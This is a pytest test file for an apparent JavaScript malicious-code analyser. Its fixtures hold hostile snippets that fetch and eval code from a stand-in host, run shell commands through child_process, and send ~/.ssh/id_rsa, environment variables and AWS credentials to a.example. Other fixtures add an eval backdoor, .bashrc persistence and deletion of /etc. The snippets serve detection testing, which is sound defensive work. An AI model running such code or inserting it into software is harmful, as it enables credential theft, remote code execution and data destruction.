import pytest

from posthouse.inspection.facts import Fact, Kind
from posthouse.inspection.reading.javascript import javascript_facts

URL = "https://a.example/x"
CALLBACKS = (
    f"require('https').get('{URL}', r => {{ let d = ''; r.on('data', c => d += c);"
    " r.on('end', () => RUN(d)); });"
)


def read(code: str) -> tuple[list[Fact], list[str]]:
    commands: list[str] = []
    return javascript_facts(code, commands.append), commands


@pytest.mark.parametrize(
    "code",
    [
        f"(async () => {{ new Function(await (await fetch('{URL}')).text())(); }})();",
        f"fetch('{URL}').then(r => r.text()).then(eval);",
        f"fetch('{URL}').then((r) => r.text()).then((t) => (0, eval)(t));",
        CALLBACKS.replace("RUN", "eval"),
        "const vm = require('node:vm');" + CALLBACKS.replace("RUN", "vm.runInThisContext"),
        f"import axios from 'axios';\nconst {{data}} = await axios.get('{URL}'); eval(data);",
        f'import "{URL}";',
        f"await import('{URL}');",
    ],
)
def test_follows_a_download_to_where_it_is_run(code: str) -> None:
    assert Fact(Kind.FETCH_RUN, URL, "code") in read(code)[0]


@pytest.mark.parametrize(
    ("code", "command"),
    [
        ("require('child_process').exec('id')", "id"),
        ("import {execSync as x} from 'node:child_process'; x(`id ${'-u'}`)", "id -u"),
        ("const {spawn: s} = require('child_process'); s('sh', ['-c', 'id'])", "sh -c 'id'"),
        ("require(['child', 'process'].join('_'))['ex' + 'ec']('id')", "id"),
        ("process.mainModule.require('child_process').execSync('\\x69\\u0064')", "id"),
        ("import('node:child_process').then(c => c.exec('id'))", "id"),
        ("await Bun.$`id`", "id"),
        ("import cp from 'child_process';\nfor (const a of []) cp.execFile('id', ['-u'])", "id -u"),
    ],
)
def test_reads_the_commands_that_are_run(code: str, command: str) -> None:
    assert read(code)[1] == [command]


@pytest.mark.parametrize(
    ("code", "fact"),
    [
        (
            ("const fs = require('fs'), os = require('os'), path = require('path');"
            "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');"
            f"fetch('{URL}?k=' + encodeURIComponent(k));"),
            Fact(Kind.SEND_SECRET, f"{URL}?k={{}}", "~/.ssh/id_rsa"),
        ),
        (
            f"fetch('{URL}', {{method: 'POST', body: JSON.stringify(process.env)}})",
            Fact(Kind.SEND_SECRET, URL, "environment"),
        ),
        (
            ("const s = require('fs').readFileSync(process.env.HOME + '/.aws/credentials');"
            "require('https').request({host: 'a.example', method: 'POST'}).end(s);"),
            Fact(Kind.SEND_SECRET, "a.example", "~/.aws/credentials"),
        ),
        ("eval(atob('MSsx'))", Fact(Kind.HIDDEN_RUN, "", "code")),
        ("global['ev' + 'al']('1')", Fact(Kind.HIDDEN_RUN, "", "code")),
        (
            "eval([49, 43].map(c => String.fromCharCode(c)).join(''))",
            Fact(Kind.HIDDEN_RUN, "", "code"),
        ),
        ("eval('1+1'.split('').reverse().join(''))", Fact(Kind.HIDDEN_RUN, "", "code")),
        ("import('data:text/javascript;base64,MSsx')", Fact(Kind.HIDDEN_RUN, "", "code")),
        ("app.get('/', (req, res) => res.send(eval(req.query.c)))", Fact(Kind.BACKDOOR)),
        (
            "require('fs').appendFileSync('/root/.bashrc', 'x')",
            Fact(Kind.PERSIST, "/root/.bashrc", "shell"),
        ),
        ("require('fs').rmSync('/etc', {recursive: true})", Fact(Kind.DESTROY, "/etc")),
    ],
)  # fmt: skip
def test_tells_what_code_does(code: str, fact: Fact) -> None:
    assert fact in read(code)[0]


@pytest.mark.parametrize(
    "code",
    [
        (
            "const r = await fetch(url, {headers: {Authorization: `Bearer ${process.env.TOKEN}`}});"
            "await new Promise(done => setTimeout(done, 1000));"
        ),
        "exports.evaluate = (text, scope) => require('vm').runInNewContext(text, scope);",
        "const n = Buffer.from('aGk=', 'base64').toString(); console.log(n);",
        "fs.writeFileSync('dist/a.js', code); fs.rmSync('dist', {recursive: true});",
        "export const config = {port: Number(process.env.PORT ?? 3000)};",
        "function f<T extends object>(a: T): a is T { return Object.keys(a).length > 0 }",
    ],
)
def test_finds_nothing_in_ordinary_code(code: str) -> None:
    assert read(code) == ([], [])


@pytest.mark.parametrize(
    "code",
    [
        "eval(" * 20_000,
        "process" + "[a" * 20_000,
        "fetch(`${" * 10_000,
        "eval(" + "+".join(["'a'"] * 15_000) + ")",
        "a=>" * 20_000 + "eval(a)",
        "process.env;" * 6_000,
        "eval('" + "\\x41" * 16_000 + "')",
        "x=[" * 30_000 + "eval(x)",
    ],
)
def test_comes_to_an_end(code: str) -> None:
    read(code)
